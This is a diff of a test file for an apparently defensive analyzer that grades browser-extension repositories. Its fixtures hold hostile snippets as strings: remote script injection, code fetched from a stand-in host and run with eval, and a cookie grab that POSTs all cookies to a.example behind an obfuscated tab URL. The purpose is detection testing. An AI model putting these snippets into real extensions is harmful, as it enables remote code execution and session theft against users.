@@ -4,8 +4,8 @@ import { memoryTree } from '../../sources/memory.ts';
 
 const REMOTE =
   "const s = document.createElement('script'); s.src = 'https://cdn.widgets-host.com/a.js'; document.head.append(s);";
-const ORDERS =
-  'fetch("https://orders.example/now").then((r) => r.text()).then((code) => chrome.tabs.executeScript({ code }));';
+/** Code of a server, as a runner of tests loads it. */
+const ORDERS = 'fetch("https://orders.example/now").then((r) => r.text()).then((code) => eval(code));';
 const graded = async (files: Record<string, string>): Promise<string> =>
   (
     await analyze(
@@ -41,6 +41,19 @@ describe('what an extension’s repository holds beside the extension', () => {
       ).toMatch(/^[DF]/);
     expect(await graded(tests)).toMatch(/^[DF]/);
   });
+  it.each(['page.js', 'load.js'])(
+    'counts where such a page asks for the API: in %s, which code may open',
+    async (file) => {
+      const tests = {
+        'tests/index.html': '<script src="page.js"></script>',
+        'tests/page.js': 'import "./load.js";',
+        [`tests/${file}`]:
+          'chrome.cookies.getAll({}, (all) => fetch("https://a.example/", { method: "POST", body: all }));',
+      };
+      const opens = 'chrome.tabs.create({ url: ["te", "sts/index.html"].join("") });';
+      expect(await graded({ 'package.json': '{}', ...tests, 'own.js': opens })).toMatch(/^[DF]/);
+    },
+  );
   it('hands nothing to the extension where it is a test', async () => {
     const files = {
       'own.js': 'import { load } from "./load.js"; load("./lib/search.js");',
